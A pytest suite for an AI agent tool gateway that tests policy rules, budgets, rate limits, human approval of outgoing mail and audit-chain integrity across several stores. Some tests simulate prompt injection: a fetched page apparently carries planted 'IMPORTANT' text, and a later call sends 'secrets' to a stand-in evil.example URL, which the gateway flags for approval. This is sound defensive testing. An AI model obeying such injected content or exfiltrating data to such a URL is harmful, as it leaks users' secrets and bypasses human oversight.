"""One gate behind every door: each guarantee asserted once, run through the host, the
embedding API and the MCP gateway (the official client over streamable HTTP and stdio), on
the in-memory store, a SQLite file and PostgreSQL.

The stdio gateway is a process of its own, so it runs on the stores another process can share
(SQLite, PostgreSQL); everything else runs on all three.
"""

from __future__ import annotations

from collections.abc import AsyncIterator, Iterator
from pathlib import Path

import anyio
import pytest

pytest.importorskip("mcp")

from doors import PRINCIPAL, Door, Out, open_door
from pg_schema import pg_schema_url

from anfitrion import _answers as answers
from anfitrion._audit import verify_chain

pytestmark = [pytest.mark.anyio, pytest.mark.mcp_servers]

BASE = """
[[rules]]
id = "pages-are-free"
tool = "p.fetch_page"
verdict = "allow"

[[rules]]
id = "mail-needs-a-person"
tool = "p.send_mail"
verdict = "ask"
reason = "a person approves every mail"
"""

DOORS = [(door, store) for door in ("host", "embed", "gateway-http", "gateway-stateless")
         for store in ("memory", "sqlite", "postgres")] + [
    ("gateway-stdio", "sqlite"), ("gateway-stdio", "postgres")]


@pytest.fixture(params=[pytest.param(d, id=f"{d[0]}-{d[1]}",
                                     marks=[pytest.mark.postgres] if d[1] == "postgres" else [])
                        for d in DOORS])
def door_kind(request: pytest.FixtureRequest, tmp_path: Path) -> Iterator[tuple[str, str]]:
    door, store = request.param
    if store == "memory":
        yield door, "memory://"
    elif store == "sqlite":
        yield door, f"sqlite:///{tmp_path / 'parity.db'}"
    else:
        yield from ((door, url) for url in pg_schema_url())


class Opened:
    def __init__(self, kind: tuple[str, str], tmp: Path) -> None:
        self.kind, self.tmp = kind, tmp

    def door(self, policy: str = BASE) -> AsyncIterator[Door]:
        return open_door(self.kind[0], self.kind[1], policy, self.tmp)  # type: ignore[return-value]

    def effects(self) -> list[str]:
        path = self.tmp / "effects.log"
        return path.read_text().splitlines() if path.exists() else []


@pytest.fixture
def doors(door_kind: tuple[str, str], tmp_path: Path) -> Opened:
    return Opened(door_kind, tmp_path)


async def approve(door: Door, out: Out, *, approved: bool = True) -> None:
    assert out.status == "waiting", out
    assert out.request_id is not None
    done = await answers.answer(door.store, out.request_id, None, approved=approved,
                                approver="bob", via="test")
    assert done.answer is not None, done


async def test_an_unknown_tool_is_refused_naming_what_is_offered(doors: Opened) -> None:
    with anyio.fail_after(60):
        async with doors.door() as door:
            out = await door.call("p.delete_everything", {})
    assert out.status == "error"
    assert "unknown tool" in out.text or "Unknown tool" in out.text


async def test_invalid_calls_are_refused_then_the_retry_limit_stops_them(doors: Opened) -> None:
    with anyio.fail_after(90):
        async with doors.door() as door:
            outs = [await door.call("p.lookup", {"nom": "ana"}) for _ in range(4)]
    assert all(o.status == "error" for o in outs)
    assert all("invalid arguments" in o.text for o in outs[:3])
    assert "Too many invalid calls" in outs[3].text


async def test_the_repeat_guard_refuses_the_fourth_identical_call(doors: Opened) -> None:
    policy = BASE + "\n[repeat_guard]\nmax_repeats = 3\n"
    with anyio.fail_after(90):
        async with doors.door(policy) as door:
            outs = [await door.call("p.lookup", {"name": "ana"}) for _ in range(5)]
    assert [o.status for o in outs] == ["ok", "ok", "ok", "error", "error"]
    assert "denied" in outs[3].text


async def test_a_session_budget_of_tool_calls_is_spent_once(doors: Opened) -> None:
    policy = BASE + "\n[budgets]\ntool_calls = 2\n"
    with anyio.fail_after(90):
        async with doors.door(policy) as door:
            outs = [await door.call("p.count", {"n": i}) for i in (1, 2, 3)]
    assert [o.status for o in outs] == ["ok", "ok", "error"]
    assert "used its 2 tool calls" in outs[2].text


async def test_a_rate_limit_counts_the_principals_calls(doors: Opened) -> None:
    policy = BASE + ('\n[[rate_limits]]\nid = "counts"\ntool = "p.count"\nmax_calls = 2\n'
                     'per = "1h"\nreason = "two counts an hour"\n')
    with anyio.fail_after(90):
        async with doors.door(policy) as door:
            outs = [await door.call("p.count", {"n": i}) for i in (1, 2, 3)]
    assert [o.status for o in outs] == ["ok", "ok", "error"]
    assert "two counts an hour" in outs[2].text


async def test_after_untrusted_content_an_allowed_write_asks_a_person(doors: Opened) -> None:
    policy = BASE.replace('verdict = "ask"\nreason = "a person approves every mail"',
                          'verdict = "allow"')
    with anyio.fail_after(90):
        async with doors.door(policy) as door:
            before = await door.call("p.send_mail", {"to": "ana@example.org", "body": "hi"})
            page = await door.call("p.fetch_page", {"url": "https://news.example/today"})
            after = await door.call("p.send_mail", {"to": "ana@example.org", "body": "hi 2"})
            request = await door.store.get_approval(after.request_id or "")
    assert before.status == "ok" and page.status == "ok"
    assert "IMPORTANT" in page.text
    assert after.status == "waiting"
    assert request is not None
    assert any("untrusted" in w for w in request.request.warnings)
    assert doors.effects() == ["mail to ana@example.org"]


async def test_a_url_that_came_only_from_untrusted_content_is_flagged(doors: Opened) -> None:
    with anyio.fail_after(90):
        async with doors.door() as door:
            clean = await door.call("p.open_link", {"url": "https://docs.example/manual"})
            await door.call("p.fetch_page", {"url": "https://news.example/today"})
            out = await door.call("p.open_link", {"url": "https://evil.example/steal?d=secrets"})
            request = await door.store.get_approval(out.request_id or "")
    assert clean.status == "ok"
    assert out.status == "waiting"
    assert request is not None
    assert any(w.startswith("argument url") for w in request.request.warnings)
    assert doors.effects() == []


async def test_an_approved_write_runs_once_and_the_approval_covers_that_call_only(
        doors: Opened) -> None:
    with anyio.fail_after(90):
        async with doors.door() as door:
            asked = await door.call("p.send_mail", {"to": "ana@example.org", "body": "hi"})
            await approve(door, asked)
            ran = await door.retry()
            other = await door.call("p.send_mail", {"to": "eve@example.org", "body": "hi"})
            await approve(door, other, approved=False)
            refused = await door.retry()
            fresh = await door.call("p.send_mail", {"to": "ana@example.org", "body": "hi"})
    assert ran.status == "ok" and "sent to ana@example.org" in ran.text
    # the yes for ana's mail covered nothing else: eve's mail waited for its own answer
    assert other.status == "waiting" and other.request_id != asked.request_id
    assert refused.status == "error"
    # a yes is used once: the same arguments proposed anew wait for a person again
    assert fresh.status == "waiting" and fresh.request_id not in (asked.request_id,
                                                                  other.request_id)
    assert doors.effects() == ["mail to ana@example.org"]


async def test_a_refusal_reaches_the_caller_and_nothing_runs(doors: Opened) -> None:
    with anyio.fail_after(90):
        async with doors.door() as door:
            asked = await door.call("p.send_mail", {"to": "ana@example.org", "body": "hi"})
            await approve(door, asked, approved=False)
            refused = await door.retry()
    assert refused.status == "error" and "declined by a person" in refused.text
    assert doors.effects() == []


async def test_an_answer_to_a_changed_digest_or_a_second_answer_is_refused(
        doors: Opened) -> None:
    with anyio.fail_after(90):
        async with doors.door() as door:
            asked = await door.call("p.send_mail", {"to": "ana@example.org", "body": "hi"})
            assert asked.request_id is not None
            stale = await answers.answer(door.store, asked.request_id, "0" * 64, approved=True,
                                         approver="mallory", via="test")
            await approve(door, asked)
            twice = await answers.answer(door.store, asked.request_id, None, approved=False,
                                         approver="bob", via="test")
    assert stale.refusal is answers.Refusal.STALE
    assert twice.refusal is answers.Refusal.ANSWERED


async def test_every_stage_and_every_answer_is_in_an_intact_audit_chain(doors: Opened) -> None:
    with anyio.fail_after(90):
        async with doors.door() as door:
            asked = await door.call("p.send_mail", {"to": "ana@example.org", "body": "hi"})
            await approve(door, asked)
            await door.retry()
            records = await door.store.audit_records()
    assert verify_chain(records).ok
    mail = [r for r in records if r.data.get("tool") == "p.send_mail"
            or r.type == "approval.answered"]
    kinds = {r.type for r in mail}
    assert {"call.proposed", "call.validated", "call.decided", "approval.requested",
            "approval.answered", "execution.claimed", "execution.settled",
            "result.returned"} <= kinds, kinds
    answered = [r for r in records if r.type == "approval.answered"]
    assert len(answered) == 1  # recorded once, when given — not again when used
    assert {r.session_id for r in mail} == {answered[0].session_id}
    assert PRINCIPAL in str(answered[0].data) or answered[0].data


async def test_an_expired_request_cannot_be_answered_and_its_call_does_not_run(
        doors: Opened) -> None:
    policy = BASE + "\n[approvals]\nttl = 0.000001\n"  # a microsecond: expired once stored
    with anyio.fail_after(90):
        async with doors.door(policy) as door:
            asked = await door.call("p.send_mail", {"to": "ana@example.org", "body": "hi"})
            assert asked.status == "waiting" and asked.request_id is not None
            late = await answers.answer(door.store, asked.request_id, None, approved=True,
                                        approver="bob", via="test")
            retried = await door.retry()
    assert late.refusal is answers.Refusal.EXPIRED
    assert retried.status == "error" and "expired" in retried.text
    assert doors.effects() == []
